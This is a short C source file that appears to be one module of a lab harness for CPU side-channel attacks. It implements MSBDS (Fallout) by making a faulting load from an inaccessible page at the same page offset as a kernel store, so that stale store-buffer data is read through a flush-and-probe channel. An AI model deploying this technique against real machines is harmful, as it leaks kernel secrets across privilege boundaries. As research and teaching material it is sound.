/*
 * MSBDS (Fallout): a load that faults gets what an older store left in the store buffer.
 *
 * The kernel stores its secret somewhere. The store buffer is asked by the place within a page alone, so a load that
 * faults and stands at the same place in a page of ours is given the kernel's data.
 */
#include "kernel.h"

static const char ABOUT[] = "ring 0 only";

static const u8 *nowhere;

static int prepare(u64 bytes)
{
    (void)bytes;
    nowhere = map(0, PAGE, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1);
    catch_faults();
    return !failed(nowhere);
}

static void attempt(u64 index)
{
    flush_probe();
    lab_call(LAB_STORE, 0, 0, 0, 0);
    STALE_ACCESS(nowhere + COPY_AT + index);
}

static void done(void)
{
    say_value("faults", faults);
}
